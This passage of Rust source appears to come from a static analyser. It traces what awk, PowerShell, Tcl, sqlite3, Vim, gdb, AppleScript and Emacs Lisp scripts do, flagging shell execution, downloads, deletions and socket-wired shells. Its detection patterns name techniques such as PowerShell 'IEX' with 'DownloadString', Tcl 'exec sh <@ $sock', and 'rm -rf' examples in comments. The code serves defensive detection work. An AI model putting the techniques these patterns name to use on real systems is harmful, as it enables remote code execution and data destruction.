                    if let Some(cmd) = spec.strip_prefix('|').or_else(|| spec.strip_suffix('|')) {
                        sink.shell(&Val::Str(cmd.to_string()));
                    } else if let Some(p) = spec.strip_prefix(">>") {
                        sink.write(&Val::Str(p.trim().to_string()), true);
                    } else if let Some(p) = spec.strip_prefix('>') {
                        sink.write(&Val::Str(p.trim().to_string()), false);
                    } else {
                        sink.read(&Val::Str(spec.trim_start_matches('<').trim().to_string()));
                    }
                }
                _ => {}
            }
            return;
        }
        let path = pos.first().copied().cloned().unwrap_or(Val::Unknown);
        let mode = strs.get(1).copied().flatten().unwrap_or("r");
        if let Some(cmd) = path.str().and_then(|p| p.strip_prefix('|')) {
            sink.shell(&Val::Str(cmd.to_string()));
            return;
        }
        if mode.contains('a') {
            sink.write(&path, true);
        } else if mode.contains(['w', '+', 'x']) {
            sink.write(&path, false);
        } else {
            sink.read(&path);
        }
    }

    /// awk's `print … | "cmd"`, `print … > "file"`, `print … >> "file"`.
    fn awk_print(&mut self, i: usize, sink: &mut Sink) -> usize {
        let end = self.stmt_end(i + 1);
        let mut j = i + 1;
        let mut depth = 0i32;
        while j < end {
            match &self.toks[j] {
                Tok::P("(" | "[") => depth += 1,
                Tok::P(")" | "]") => depth -= 1,
                Tok::P(op @ ("|" | ">" | ">>")) if depth == 0 => {
                    let printed = self.eval(i + 1, j);
                    let target = self.eval(j + 1, end);
                    match *op {
                        "|" => {
                            let shell = target.str().is_some_and(|t| {
                                let t = t.trim();
                                matches!(
                                    t,
                                    "sh" | "bash"
                                        | "/bin/sh"
                                        | "/bin/bash"
                                        | "zsh"
                                        | "dash"
                                        | "sh -s"
                                        | "bash -s"
                                )
                            });
                            if shell {
                                if printed == Val::Name("$0".into()) {
                                    sink.facts.runs_input = true;
                                } else {
                                    sink.shell(&printed);
                                }
                            } else {
                                sink.shell(&target);
                            }
                        }
                        ">>" => sink.write(&target, true),
                        _ => sink.write(&target, false),
                    }
                    return end;
                }
                _ => {}
            }
            j += 1;
        }
        i + 1
    }

    fn run_awk_command(&self, v: &Val, sink: &mut Sink) {
        if *v == Val::Name("$0".into()) {
            sink.facts.runs_input = true;
        } else {
            sink.shell(v);
        }
    }
}

fn list_of(v: Val) -> Val {
    match v {
        Val::List(_) => v,
        Val::Unknown => Val::Unknown,
        other => Val::List(vec![other]),
    }
}

/// The value of a call in an expression: home lookups, path helpers,
/// globs and decoders.
fn value_call(lang: Language, name: &str, args: &[Val]) -> Val {
    let first = args.first().cloned().unwrap_or(Val::Unknown);
    let is_home_key = first.str() == Some("HOME");
    match name {
        "getenv" | "os.getenv" | "sys.getenv" | "env" | "environ" if is_home_key => home(),
        "homedir" | "dir.home" | "os.homedir" | "path.home" | "file.expand_path"
        | "path.expand" | "expanduser" | "normalizepath" | "abspath" | "realpath"
        | "file.absolute_path"
            if args.len() <= 1 =>
        {
            if args.is_empty() {
                home()
            } else {
                first
            }
        }
        "file.join" | "joinpath" | "file.path" | "catfile" | "file::spec.catfile" => {
            join_paths(args)
        }
        "paste0" | "concat" | "string" => args
            .iter()
            .skip(1)
            .fold(first.clone(), |acc, v| acc.concat(v)),
        "glob" | "dir.glob" | "list.files" | "readdir" | "dir.entries" | "dir.children"
        | "readdir_r" => glob(&match first {
            Val::Str(s) if !s.contains(['*', '?']) && name != "glob" && name != "dir.glob" => {
                Val::Str(format!("{s}/*"))
            }
            other => other,
        }),
        "c" | "array" | "list" => Val::List(args.to_vec()),
        "decode_base64"
        | "base64.decode64"
        | "base64.strict_decode64"
        | "base64_decode"
        | "base64decode"
        | "mime::base64::decode" => Val::Decoded(
            first
                .str()
                .and_then(b64::decode)
                .map(|b| b64::text(&b))
                .unwrap_or_default(),
        ),
        "pack" if lang == Language::Perl => Val::Decoded(String::new()),
        // Calls that return what they fetched: text downloaded when the
        // argument is a URL (`file_get_contents("https://…")`).
        "file_get_contents"
        | "file"
        | "stream_get_contents"
        | "open"
        | "uri.open"
        | "kernel.open"
        | "readlines"
        | "read_file"
            if first.str().is_some_and(is_url) =>
        {
            Val::Downloaded
        }
        "get"
        | "lwp::simple::get"
        | "http::tiny.new.get"
        | "net::http.get"
        | "net::http.get_response"
        | "http.request"
        | "socket.http.request"
        | "http.get"
        | "httr::get"
        | "httr::content"
        | "curl::curl_fetch_memory"
        | "downloads.download"
            if first.str().is_some_and(is_url) || first == Val::Downloaded =>
        {
            Val::Downloaded
        }
        "uri" | "uri.parse" | "url" => first,
        "parse" | "meta.parse" | "str2lang" => first,
        _ => Val::Unknown,
    }
}

/// A URL a program fetches code from.
fn is_url(s: &str) -> bool {
    let l = s.trim_start().to_ascii_lowercase();
    ["http://", "https://", "ftp://"]
        .iter()
        .any(|p| l.starts_with(p))
}

// ------------------------------------------------------- word languages

/// Split a command line into words the way PowerShell or Tcl would,
/// with the home directory's spellings resolved.
fn words(line: &str, lang: Language, env: &HashMap<String, Val>) -> Vec<Val> {
    let chars: Vec<char> = line.chars().collect();
    let mut out = Vec::new();
    let mut i = 0;
    while i < chars.len() {
        let c = chars[i];
        if c.is_whitespace() || (lang == Language::PowerShell && c == ',') {
            i += 1;
            continue;
        }
        let (val, next) = match c {
            '\'' if lang == Language::PowerShell => {
                let (t, n) = quoted(&chars, i, lang);
                (Val::Str(t), n)
            }
            '"' => {
                let (t, n) = quoted(&chars, i, lang);
                (interpolate(lang, &t, env), n)
            }
            '{' if lang == Language::Tcl => {
                let (t, n) = delimited(&chars, i);
                (Val::Str(t), n)
            }
            '[' if lang == Language::Tcl => {
                let (t, n) = delimited(&chars, i);
                (tcl_value(&t, env), n)
            }
            '(' if lang == Language::PowerShell => {
                // A subexpression and what follows it (`(iwr URL).Content`),
                // kept as text for the caller to run.
                let (_, mut n) = delimited(&chars, i);
                let mut depth = 0i32;
                while n < chars.len() && (depth > 0 || !chars[n].is_whitespace()) {
                    match chars[n] {
                        '(' => depth += 1,
                        ')' => depth -= 1,
                        _ => {}
                    }
                    n += 1;
                }
                (Val::Name(chars[i..n].iter().collect()), n)
            }
            _ => {
                let start = i;
                while i < chars.len()
                    && !chars[i].is_whitespace()
                    && !(lang == Language::PowerShell && chars[i] == ',')
                {
                    i += 1;
                }
                let w: String = chars[start..i].iter().collect();
                let v = match w.as_str() {
                    "$HOME" | "$env:HOME" | "${env:HOME}" | "$env(HOME)" | "$::env(HOME)"
                    | "$env:USERPROFILE" => home(),
                    _ if w.starts_with('$') => {
                        let name = w.trim_start_matches('$');
                        match env.get(name) {
                            Some(v) => v.clone(),
                            None => interpolate(lang, &w, env),
                        }
                    }
                    _ => Val::Str(w),
                };
                (v, i)
            }
        };
        out.push(val);
        i = next.max(i + 1);
    }
    out
}

/// Split program text into statements at newlines and `;` outside quotes
/// and brackets.
fn statements(code: &str, brackets: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut depth = 0i32;
    let mut quote: Option<char> = None;
    let open: Vec<char> = brackets.chars().step_by(2).collect();
    let close: Vec<char> = brackets.chars().skip(1).step_by(2).collect();
    for c in code.chars() {
        match quote {
            Some(q) if c == q => quote = None,
            Some(_) => {}
            None if c == '"' || c == '\'' => quote = Some(c),
            None if open.contains(&c) => depth += 1,
            None if close.contains(&c) => depth -= 1,
            None if (c == '\n' || c == ';') && depth <= 0 => {
                out.push(std::mem::take(&mut cur));
                continue;
            }
            None => {}
        }
        cur.push(c);
    }
    out.push(cur);
    out.into_iter().filter(|s| !s.trim().is_empty()).collect()
}

fn powershell(code: &str, sink: &mut Sink) {
    let mut env: HashMap<String, Val> = HashMap::new();
    for stmt in statements(code, "(){}") {
        let stmt = stmt.trim();
        if stmt.starts_with('#') {
            continue;
        }
        // `$x = "…"`, `$x = (irm URL)`, `$x = Invoke-RestMethod URL`
        if let Some((lhs, rhs)) = stmt.split_once('=') {
            let lhs = lhs.trim();
            if lhs.starts_with('$') && !lhs.contains(' ') && !rhs.starts_with('=') {
                let w = words(rhs.trim(), Language::PowerShell, &env);
                let cmdlet = w.first().and_then(Val::str).is_some_and(|n| {
                    n.starts_with(|c: char| c.is_ascii_alphabetic())
                        && (n.contains('-')
                            || matches!(n.to_ascii_lowercase().as_str(), "irm" | "iwr" | "gc"))
                });
                let v = if w.len() == 1 {
                    ps_resolve(&w[0], sink, &env, 0)
                } else if cmdlet {
                    ps_pipeline(rhs.trim(), sink, &env, 0)
                } else {
                    continue;
                };
                env.insert(lhs.trim_start_matches('$').to_string(), v);
                continue;
            }
        }
        ps_pipeline(stmt, sink, &env, 0);
    }
}

/// How deep PowerShell subexpressions `( … )` are followed.
const PS_MAX_DEPTH: u8 = 4;

/// A PowerShell pipeline; returns what its last command passes on.
fn ps_pipeline(stmt: &str, sink: &mut Sink, env: &HashMap<String, Val>, depth: u8) -> Val {
    // `IEX(…)`: the cmdlet name ends at its bracket.
    let mut text = stmt.to_string();
    for name in ["iex(", "invoke-expression("] {
        if text.to_ascii_lowercase().starts_with(name) {
            text.insert(name.len() - 1, ' ');
        }
    }
    let mut piped = Val::Unknown;
    for seg in text.split('|') {
        let w = words(seg.trim(), Language::PowerShell, env);
        let w: Vec<Val> = w.iter().map(|v| ps_resolve(v, sink, env, depth)).collect();
        piped = ps_command(&w, piped, sink);
    }
    piped
}

/// The value of a PowerShell word: a subexpression `(irm URL)`,
/// `(iwr URL).Content` or `(New-Object Net.WebClient).DownloadString(URL)`
/// is run; other words are themselves.
fn ps_resolve(v: &Val, sink: &mut Sink, env: &HashMap<String, Val>, depth: u8) -> Val {
    let text = match v {
        Val::Str(t) | Val::Name(t) => t.as_str(),
        _ => return v.clone(),
    };
    let lower = text.to_ascii_lowercase();
    // `.DownloadString('URL')` on a WebClient, however it was made.
    for m in [".downloadstring(", ".downloaddata("] {
        if let Some(at) = lower.find(m) {
            let chars: Vec<char> = text[at + m.len() - 1..].chars().collect();
            let (arg, _) = delimited(&chars, 0);
            let u = words(arg.trim(), Language::PowerShell, env)
                .into_iter()
                .next()
                .unwrap_or(Val::Unknown);
            sink.url(&u);
            return Val::Downloaded;
        }
    }
    if !matches!(v, Val::Name(_)) {
        return v.clone();
    }
    if depth >= PS_MAX_DEPTH {
        return Val::Unknown;
    }
    let chars: Vec<char> = text.chars().collect();
    let (inner, _) = delimited(&chars, 0);
    match ps_pipeline(&inner, sink, env, depth + 1) {
        // `(iwr URL).Content`: still the downloaded text.
        Val::Downloaded => Val::Downloaded,
        other if text.len() == inner.len() + 2 => other,
        _ => Val::Unknown,
    }
}

/// One PowerShell command; returns what it passes down the pipeline.
fn ps_command(w: &[Val], piped: Val, sink: &mut Sink) -> Val {
    let Some(name) = w.first().and_then(Val::str) else {
        // An expression on its own: its value.
        return match w {
            [only] => only.clone(),
            _ => Val::Unknown,
        };
    };
    let name = name.to_ascii_lowercase();
    let (name, w) = if name == "&" || name == "." {
        match w.get(1).and_then(Val::str) {
            Some(n) => (n.to_ascii_lowercase(), &w[1..]),
            None => return Val::Unknown,
        }
    } else {
        (name, w)
    };
    let args = &w[1..];
    let is_param = |v: &Val| {
        v.str().is_some_and(|s| {
            s.starts_with('-') && s.len() > 1 && s[1..].starts_with(|c: char| c.is_alphabetic())
        })
    };
    let has = |names: &[&str]| {
        args.iter().any(|a| {
            a.str().is_some_and(|s| {
                let s = s.to_ascii_lowercase();
                names
                    .iter()
                    .any(|n| s == *n || (s.len() >= 3 && n.starts_with(&s)))
            })
        })
    };
    let param = |names: &[&str]| -> Option<Val> {
        let pos = args.iter().position(|a| {
            a.str().is_some_and(|s| {
                let s = s.to_ascii_lowercase();
                names
                    .iter()
                    .any(|n| s == *n || s.starts_with(&format!("{n}:")))
            })
        })?;
        args.get(pos + 1).cloned()
    };
    let positional = || -> Vec<Val> {
        let mut out = Vec::new();
        let mut skip = false;
        for a in args {
            if skip {
                skip = false;
                continue;
            }
            if is_param(a) {
                let s = a.str().unwrap_or("").to_ascii_lowercase();
                // Switches take no value.
                skip = !matches!(
                    s.as_str(),
                    "-recurse"
                        | "-force"
                        | "-append"
                        | "-confirm:$false"
                        | "-whatif"
                        | "-wait"
                        | "-nonewline"
                        | "-passthru"
                        | "-r"
                        | "-f"
                );
                continue;
            }
            out.push(a.clone());
        }
        out
    };
    match name.as_str() {
        // `rm`, `ls`, `cat`, `curl`, `wget` are not aliases outside
        // Windows: they run the native programs, handled below.
        "remove-item" | "ri" | "del" | "erase" | "rd" => {
            let recursive = has(&["-recurse", "-r"]);
            let mut targets: Vec<Val> = param(&["-path", "-literalpath"]).into_iter().collect();
            targets.extend(positional());
            if targets.is_empty() {
                sink.delete(&piped, true);
            }
            for t in targets {
                for item in t.items() {
                    sink.delete(&item, recursive);
                }
            }
            Val::Unknown
        }
        "get-childitem" | "gci" | "dir" => {
            let p = param(&["-path", "-literalpath"])
                .or_else(|| positional().into_iter().next())
                .unwrap_or(Val::Str(".".into()));
            match p {
                Val::Str(s) => Val::Under(s),
                _ => Val::Unknown,
            }
        }
        "get-item" | "gi" => param(&["-path"])
            .or_else(|| positional().into_iter().next())
            .unwrap_or(Val::Unknown),
        "set-content" | "sc" | "out-file" | "new-item" | "ni" => {
            let p = param(&["-path", "-filepath", "-literalpath"])
                .or_else(|| positional().into_iter().next())
                .unwrap_or(Val::Unknown);
            sink.write(&p, has(&["-append"]));
            Val::Unknown
        }
        "add-content" | "ac" => {
            let p = param(&["-path", "-literalpath"])
                .or_else(|| positional().into_iter().next())
                .unwrap_or(Val::Unknown);
            sink.write(&p, true);
            Val::Unknown
        }
        "get-content" | "gc" | "type" => {
            let p = param(&["-path", "-literalpath"])
                .or_else(|| positional().into_iter().next())
                .unwrap_or(Val::Unknown);
            sink.read(&p);
            Val::Unknown
        }
        "invoke-webrequest" | "iwr" | "invoke-restmethod" | "irm" => {
            let u = param(&["-uri"])
                .or_else(|| positional().into_iter().next())
                .unwrap_or(Val::Unknown);
            sink.url(&u);
            sink.facts.network = true;
            if has(&["-body", "-infile"])
                || param(&["-method"])
                    .and_then(|m| m.str().map(str::to_ascii_lowercase))
                    .is_some_and(|m| m != "get")
            {
                sink.facts.network_send = true;
            }
            if let Some(f) = param(&["-infile"]) {
                sink.read(&f);
            }
            if let Some(f) = param(&["-outfile"]) {
                sink.write(&f, false);
            }
            Val::Downloaded
        }
        "start-process" | "saps" | "start" => {
            let file = param(&["-filepath"])
                .or_else(|| positional().into_iter().next())
                .unwrap_or(Val::Unknown);
            let mut argv = vec![file];
            if let Some(a) = param(&["-argumentlist", "-args"]) {
                argv.extend(a.items());
                // `-ArgumentList "-rf","/home/u"`: the rest of the list.
                let pos = args.iter().position(|x| {
                    x.str().is_some_and(|s| {
                        s.eq_ignore_ascii_case("-argumentlist") || s.eq_ignore_ascii_case("-args")
                    })
                });
                if let Some(p) = pos {
                    argv.extend(
                        args.iter()
                            .skip(p + 2)
                            .take_while(|x| !is_param(x))
                            .cloned(),
                    );
                }
            }
            sink.argv(&argv);
            Val::Unknown
        }
        "invoke-expression" | "iex" => {
            let code = param(&["-command"])
                .or_else(|| positional().into_iter().next())
                .unwrap_or(piped);
            sink.eval(Language::PowerShell, &code);
            Val::Unknown
        }
        "write-output" | "echo" | "write-host" | "write" => Val::Unknown,
        n if n.contains('-') || n.starts_with('$') || n.starts_with('[') || n.starts_with('(') => {
            // Other cmdlets and expressions: nothing known.
            if n.starts_with("[system.io.directory]::delete")
                || n.starts_with("[io.directory]::delete")
            {
                sink.facts.network |= false;
            }
            Val::Unknown
        }
        _ => {
            // An external program, run with its arguments.
            sink.argv(w);
            Val::Unknown
        }
    }
}

/// The value of a Tcl command substitution `[…]`.
fn tcl_value(cmd: &str, env: &HashMap<String, Val>) -> Val {
    if cmd.matches('[').count() > 16 {
        return Val::Unknown;
    }
    let w = words(cmd, Language::Tcl, env);
    match (w.first().and_then(Val::str), w.get(1).and_then(Val::str)) {
        (Some("file"), Some("normalize" | "join")) => join_paths(&w[2..]),
        (Some("glob"), _) => glob(
            w.iter()
                .skip(1)
                .find(|v| !v.str().is_some_and(|s| s.starts_with('-')))
                .unwrap_or(&Val::Unknown),
        ),
        (Some("set"), Some(name)) if w.len() == 2 => env.get(name).cloned().unwrap_or(Val::Unknown),
        (Some("socket"), _) => Val::Name(TCL_SOCKET.into()),
        // A line or the rest of what a socket sent.
        (Some("gets" | "read"), _)
            if w.iter().skip(1).any(|v| *v == Val::Name(TCL_SOCKET.into())) =>
        {
            Val::FromSocket
        }
        _ => Val::Unknown,
    }
}

/// The value of a Tcl channel opened with `socket`.
const TCL_SOCKET: &str = "tcl:socket";

/// How deep Tcl bodies and command substitutions are followed.
const TCL_MAX_DEPTH: u8 = 6;

/// The command substitutions `[…]` of a Tcl command, outside braces.
fn tcl_substitutions(stmt: &str) -> Vec<String> {
    let chars: Vec<char> = stmt.chars().collect();
    let mut out = Vec::new();
    let mut i = 0;
    while i < chars.len() {
        match chars[i] {
            '\\' => i += 2,
            '{' => i = delimited(&chars, i).1,
            '[' => {
                let (t, n) = delimited(&chars, i);
                out.push(t);
                i = n;
            }
            _ => i += 1,
        }
    }
    out
}

fn tcl(code: &str, sink: &mut Sink, env: &mut HashMap<String, Val>, depth: u8) {
    for stmt in statements(code, "[]{}") {
        if depth < TCL_MAX_DEPTH {
            // `puts [exec …]`, `set s [socket …]`: the commands substituted run too.
            for sub in tcl_substitutions(stmt.trim()) {
                tcl(&sub, sink, env, depth + 1);
            }
        }
        let w = words(stmt.trim(), Language::Tcl, env);
        let Some(cmd) = w.first().and_then(Val::str) else {
            continue;
        };
        match cmd {
            "set" if w.len() == 3 => {
                if let Some(name) = w[1].str() {
                    env.insert(name.to_string(), w[2].clone());
                }
            }
            "exec" | "spawn" => {
                let mut argv: Vec<Val> = Vec::new();
                let socket = Val::Name(TCL_SOCKET.into());
                let mut i = 1;
                while i < w.len() {
                    let t = w[i].str().unwrap_or("");
                    i += 1;
                    if t == "--" || t == "&" {
                        continue;
                    }
                    // `exec sh <@ $sock >@ $sock`: streams wired to a channel.
                    if let Some(op) = ["2>@1", "2>@", "<@", ">@"]
                        .into_iter()
                        .find(|op| t.starts_with(op))
                    {
                        let target = if t == op && op != "2>@1" {
                            i += 1;
                            w.get(i - 1).cloned().unwrap_or(Val::Unknown)
                        } else {
                            let name = t[op.len()..].trim_start_matches('$');
                            env.get(name).cloned().unwrap_or(Val::Unknown)
                        };
                        sink.dup |= target == socket;
                        continue;
                    }
                    argv.push(w[i - 1].clone());
                }
                sink.argv(&argv);
            }
            "file" => match w.get(1).and_then(Val::str) {
                Some("delete") => {
                    let force = w.iter().any(|v| v.str() == Some("-force"));
                    for p in w[2..]
                        .iter()
                        .filter(|v| !v.str().is_some_and(|s| s.starts_with('-')))
                    {
                        sink.delete(p, force);
                    }
                }
                Some("rename" | "copy" | "link") => {
                    if let Some(t) = w.last() {
                        sink.write(t, false);
                    }
                }
                _ => {}
            },
            "open" => {
                let target = w.get(1).cloned().unwrap_or(Val::Unknown);
                if let Some(c) = target.str().and_then(|s| s.strip_prefix('|')) {
                    sink.shell(&Val::Str(c.to_string()));
                } else {
                    let mode = w.get(2).and_then(Val::str).unwrap_or("r");
                    if mode.contains('a') {
                        sink.write(&target, true);
                    } else if mode.contains(['w', '+']) {
                        sink.write(&target, false);
                    } else {
                        sink.read(&target);
                    }
                }
            }
            "socket" => {
                sink.socket = true;
                sink.facts.network = true;
            }
            // `gets $sock line`: the variable holds what the socket sent.
            "gets" if w.len() == 3 && w[1] == Val::Name(TCL_SOCKET.into()) => {
                if let Some(name) = w[2].str() {
                    env.insert(name.to_string(), Val::FromSocket);
                }
            }
            "eval" | "uplevel" => {
                if let Some(v) = w.get(1) {
                    sink.eval(Language::Tcl, v);
                }
            }
            _ => {
                // Bodies of `if`, `foreach`, `proc`: look inside braces.
                for v in &w[1..] {
                    if let Some(s) = v.str() {
                        let code_like = ["\n", "exec ", "file ", "eval ", "socket ", "gets "]
                            .iter()
                            .any(|k| s.contains(k));
                        if code_like && depth < TCL_MAX_DEPTH {
                            // In the same scope: `while 1 { … $sock … }`.
                            tcl(s, sink, env, depth + 1);
                        }
                    }
                }
            }
        }
    }
}

fn sqlite(code: &str, sink: &mut Sink) {
    for line in code.lines() {
        let line = line.trim();
        let Some(dot) = line.strip_prefix('.') else {
            continue;
        };
        let (cmd, rest) = dot.split_once(char::is_whitespace).unwrap_or((dot, ""));
        let rest = rest.trim();
        let arg = || -> Val {
            let w = words(rest, Language::Sqlite, &HashMap::new());
            w.into_iter().next().unwrap_or(Val::Unknown)
        };
        match cmd {
            "shell" | "system" => {
                // sqlite3 joins its arguments with spaces after unquoting.
                let w = words(rest, Language::Sqlite, &HashMap::new());
                let parts: Vec<&str> = w.iter().filter_map(Val::str).collect();
                sink.shell(&Val::Str(parts.join(" ")));
            }
            "output" | "once" | "save" | "backup" => {
                let target = if matches!(cmd, "backup") {
                    words(rest, Language::Sqlite, &HashMap::new())
                        .pop()
                        .unwrap_or(Val::Unknown)
                } else {
                    arg()
                };
                match target.str() {
                    Some(s) if s.starts_with('|') => sink.shell(&Val::Str(s[1..].to_string())),
                    Some("-e" | "-x" | "stdout") | None => {}
                    Some(_) => sink.write(&target, false),
                }
            }
            "read" | "import" | "open" | "restore" => {
                let target = arg();
                match target.str() {
                    Some(s) if s.starts_with('|') => sink.shell(&Val::Str(s[1..].to_string())),
                    _ => sink.read(&target),
                }
            }
            _ => {}
        }
    }
}

fn vim(code: &str, sink: &mut Sink) {
    for line in code.lines() {
        vim_command(line, sink, 0);
    }
}

fn vim_command(line: &str, sink: &mut Sink, depth: u8) {
    if depth > 8 {
        return;
    }
    let mut cmd = line.trim().trim_start_matches(':').trim();
    // Ranges and modifiers: `%`, `1,$`, `silent!`, `exe`.
    cmd = cmd.trim_start_matches(|c: char| c.is_ascii_digit() || ",.$%'<>".contains(c));
    for m in ["silent!", "silent", "sil!", "sil", "noautocmd", "keepalt"] {
        if let Some(r) = cmd.strip_prefix(m) {
            if r.starts_with(char::is_whitespace) || r.starts_with('!') {
                cmd = r.trim_start();
            }
        }
    }
    if let Some(shell) = cmd.strip_prefix('!') {
        sink.shell(&Val::Str(shell.to_string()));
        return;
    }
    let (word, rest) = cmd
        .find(|c: char| !c.is_ascii_alphabetic())
        .map_or((cmd, ""), |i| (&cmd[..i], &cmd[i..]));
    let rest_t = rest.trim();
    match word {
        "r" | "read" | "w" | "write" | "wq" | "x" | "up" | "update" if rest_t.starts_with('!') => {
            sink.shell(&Val::Str(rest_t[1..].to_string()));
        }
        "w" | "write" | "sav" | "saveas" | "wq" | "x" | "up" | "update" => {
            let rest_t = rest_t.trim_start_matches('!').trim();
            let (append, path) = match rest_t.strip_prefix(">>") {
                Some(p) => (true, p.trim()),
                None => (false, rest_t),
            };
            if !path.is_empty() {
                sink.write(&Val::Str(path.to_string()), append);
            }
        }
        "ter" | "term" | "terminal" if !rest_t.is_empty() => {
            sink.shell(&Val::Str(
                rest_t.trim_start_matches("++close").trim().to_string(),
            ));
        }
        "exe" | "exec" | "execute" | "call" | "echo" | "let" => {
            // `exe "!rm …"`, `call system("…")`.
            let toks = lex(Language::Python, rest_t);
            let mut g = Generic {
                nest: std::cell::Cell::new(0),
                lang: Language::Python,
                toks,
                env: HashMap::new(),
                iterable: Val::Unknown,
            };
            if word.starts_with("exe") {
                if let Val::Str(s) = g.eval(0, g.toks.len()) {
                    vim_command(&s, sink, depth + 1);
                }
            } else {
                g.run(sink);
            }
        }
        "py" | "py3" | "python" | "python3" | "pyx" | "pythonx" => {
            sink.eval_in(Language::Python, rest_t);
        }
        "lua" => sink.eval_in(Language::Lua, rest_t),
        "perl" => sink.eval_in(Language::Perl, rest_t),
        "ruby" => sink.eval_in(Language::Ruby, rest_t),
        _ => {}
    }
}

fn gdb(code: &str, sink: &mut Sink) {
    for line in code.lines() {
        let l = line.trim();
        if let Some(c) = l.strip_prefix('!') {
            sink.shell(&Val::Str(c.to_string()));
            continue;
        }
        let (word, rest) = l.split_once(char::is_whitespace).unwrap_or((l, ""));
        match word {
            "shell" => sink.shell(&Val::Str(rest.to_string())),
            "pipe" | "|" => {
                if let Some((_, c)) = rest.split_once('|') {
                    sink.shell(&Val::Str(c.to_string()));
                }
            }
            "python" | "py" | "python-interactive" | "pi" => sink.eval_in(Language::Python, rest),
            "dump" | "append" => {
                // `dump binary memory FILE START END`
                let w: Vec<&str> = rest.split_whitespace().collect();
                if let Some(f) = w.iter().find(|s| s.contains('/') || s.contains('.')) {
                    sink.write(&Val::Str((*f).to_string()), word == "append");
                }
            }
            _ => {}
        }
    }
}

fn applescript(code: &str, sink: &mut Sink) {
    let lower = code.to_ascii_lowercase();
    let mut from = 0;
    while let Some(pos) = lower[from..].find("do shell script") {
        let start = from + pos + "do shell script".len();
        let rest = &code[start..];
        let end = rest.find('\n').unwrap_or(rest.len());
        let expr = &rest[..end];
        // `"a" & "b" & quoted form of …`
        let toks = lex(Language::AppleScript, expr);
        let mut acc = Some(String::new());
        let mut pieces = 0;
        for t in &toks {
            match t {
                Tok::Str(Val::Str(s)) => {
                    if let Some(a) = acc.as_mut() {
                        a.push_str(s);
                    }
                    pieces += 1;
                }
                Tok::P("&") => {}
                Tok::Word(w)
                    if matches!(
                        w.as_str(),
                        "with" | "administrator" | "privileges" | "user" | "password"
                    ) =>
                {
                    break
                }
                _ => acc = None,
            }
        }
        if let (Some(s), true) = (acc, pieces > 0) {
            sink.shell(&Val::Str(s));
        }
        from = start;
    }
}

// --------------------------------------------------------- Emacs Lisp

#[derive(Debug, Clone)]
enum Sexp {
    Atom(String),
    Str(String),
    List(Vec<Sexp>),
}

fn sexps(code: &str) -> Vec<Sexp> {
    let chars: Vec<char> = code.chars().collect();
    let mut stack: Vec<Vec<Sexp>> = vec![Vec::new()];
    let mut i = 0;
    while i < chars.len() {
        let c = chars[i];
        match c {
            '(' | '[' => {
                if stack.len() > 64 {
                    break;
                }
                stack.push(Vec::new());
            }
            ')' | ']' => {
                if stack.len() > 1 {
                    let done = stack.pop().unwrap_or_default();
                    if let Some(top) = stack.last_mut() {
                        top.push(Sexp::List(done));
                    }
                }
            }
            '"' => {
                let (t, n) = quoted(&chars, i, Language::EmacsLisp);
                if let Some(top) = stack.last_mut() {
                    top.push(Sexp::Str(t));
                }
                i = n;
                continue;
            }
            ';' => {
                while i < chars.len() && chars[i] != '\n' {
                    i += 1;
                }
            }
            '\'' | '`' | ',' => {}
            c if c.is_whitespace() => {}
            _ => {
                let start = i;
                while i < chars.len() && !chars[i].is_whitespace() && !"()[]\";".contains(chars[i])
                {
                    i += 1;
                }
                if let Some(top) = stack.last_mut() {
                    top.push(Sexp::Atom(chars[start..i].iter().collect()));
                }
                continue;
            }
        }
        i += 1;
    }
    while stack.len() > 1 {
        let done = stack.pop().unwrap_or_default();
        if let Some(top) = stack.last_mut() {
            top.push(Sexp::List(done));
        }
    }
    stack.pop().unwrap_or_default()
}

fn elisp(code: &str, sink: &mut Sink) {
    for s in sexps(code) {
        elisp_form(&s, sink, 0);
    }
}

fn elisp_value(s: &Sexp) -> Val {
    match s {
        Sexp::Str(t) => Val::Str(t.clone()),
        Sexp::Atom(a) if a == "t" => Val::Bool(true),
        Sexp::Atom(a) if a == "nil" => Val::Bool(false),
        Sexp::Atom(_) => Val::Unknown,
        Sexp::List(items) => {
            let Some(Sexp::Atom(f)) = items.first() else {
                return Val::Unknown;
            };
            let args: Vec<Val> = items[1..].iter().map(elisp_value).collect();
            let first = args.first().cloned().unwrap_or(Val::Unknown);
            match f.as_str() {
                "getenv" if first.str() == Some("HOME") => home(),
                "expand-file-name" => match (first, args.get(1)) {
                    (Val::Str(p), Some(dir)) if !p.starts_with(['/', '~']) => {
                        join_paths(&[dir.clone(), Val::Str(p)])
                    }
                    (v, _) => v,
                },
                "concat" => args.iter().skip(1).fold(first.clone(), |a, v| a.concat(v)),
                "file-name-as-directory" | "directory-file-name" | "file-truename" => first,
                "base64-decode-string" => Val::Decoded(
                    first
                        .str()
                        .and_then(b64::decode)
                        .map(|b| b64::text(&b))
                        .unwrap_or_default(),
                ),
                "directory-files" | "directory-files-recursively" | "file-expand-wildcards" => {
                    match first {
                        Val::Str(d) => Val::Under(d),
                        _ => Val::Unknown,
                    }
                }
                "list" => Val::List(args),
                "read" | "car" => first,
                _ => Val::Unknown,
            }
        }
    }
}

fn elisp_form(s: &Sexp, sink: &mut Sink, depth: u8) {
    let Sexp::List(items) = s else {
        return;
    };
    if depth > 32 {
        return;
    }
    if let Some(Sexp::Atom(f)) = items.first() {
        let args: Vec<Val> = items[1..].iter().map(elisp_value).collect();
        let arg = |i: usize| args.get(i).cloned().unwrap_or(Val::Unknown);
        match f.as_str() {
            "shell-command" | "shell-command-to-string" | "async-shell-command" => {
                sink.shell(&arg(0))
            }
            "call-process" | "process-file" => {
                let mut argv = vec![arg(0)];
                argv.extend(args.iter().skip(4).cloned());
                sink.argv(&argv);
            }
            "call-process-shell-command" | "process-file-shell-command" => sink.shell(&arg(0)),
            "start-process" | "start-file-process" => {
                let argv: Vec<Val> = args.iter().skip(2).cloned().collect();
                sink.argv(&argv);
            }
            "start-process-shell-command" => sink.shell(&arg(2)),
            "make-process" => {
                if let Some(pos) = items
                    .iter()
                    .position(|x| matches!(x, Sexp::Atom(a) if a == ":command"))
                {
                    if let Some(v) = items.get(pos + 1) {
                        sink.argv(&elisp_value(v).items());
                    }
                }
            }
            "delete-directory" => sink.delete(&arg(0), arg(1).truthy()),
            "delete-file" => sink.delete(&arg(0), false),
            "write-region" | "append-to-file" => {
                let append = f == "append-to-file" || arg(3).truthy();
                sink.write(&arg(2), append);
            }
            "with-temp-file" => sink.write(&arg(0), false),
            "copy-file" | "rename-file" | "make-symbolic-link" | "copy-directory" => {
                sink.write(&arg(1), false)
            }
